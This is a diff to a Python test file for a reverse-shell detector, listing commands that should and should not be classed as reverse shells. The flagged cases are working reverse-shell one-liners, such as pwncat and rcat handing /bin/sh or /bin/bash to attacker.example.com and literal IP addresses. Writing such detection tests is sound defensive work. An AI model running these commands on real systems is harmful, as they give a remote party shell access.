@@ -86,7 +86,7 @@ def test_attack_tool_rules_match_a_run_not_a_mention() -> None:
     [
         "rcat 10.10.14.7 4444 -r /bin/sh",
         "pwncat attacker.example.com 9001 --exec=/bin/bash",
-        "busybox nc 192.0.2.9 4444 -e sh",
+        "pwncat 192.0.2.9 4444 -e /bin/bash",
     ],
 )
 def test_any_client_handing_a_host_and_port_a_shell_is_a_reverse_shell(command: str) -> None:
@@ -101,6 +101,7 @@ def test_any_client_handing_a_host_and_port_a_shell_is_a_reverse_shell(command: 
         "python3 -m http.server 8000 --bind 0.0.0.0",
         "telnet towel.blinkenlights.nl 23 -l shane",
         "redis-cli -h cache.internal 6379 --scan",
+        "docker run --entrypoint sh registry.example.com:5000/tools",
     ],
 )
 def test_a_host_and_port_without_a_shell_handed_over_is_not_a_reverse_shell(command: str) -> None:
